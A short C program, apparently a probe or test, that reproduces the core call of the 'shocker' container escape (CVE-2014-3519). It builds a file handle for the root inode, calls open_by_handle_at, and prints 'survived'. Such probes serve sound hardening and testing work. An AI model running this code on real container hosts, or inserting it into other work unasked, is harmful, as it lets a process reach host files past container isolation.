/* Files by inode, past every directory: CVE-2014-3519, "shocker". */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

int main(void)
{
    struct {
        struct file_handle handle;
        char bytes[8];
    } root = {{8, 1}, {2}};
    open_by_handle_at(AT_FDCWD, &root.handle, O_RDONLY);
    puts("survived");
    return 0;
}
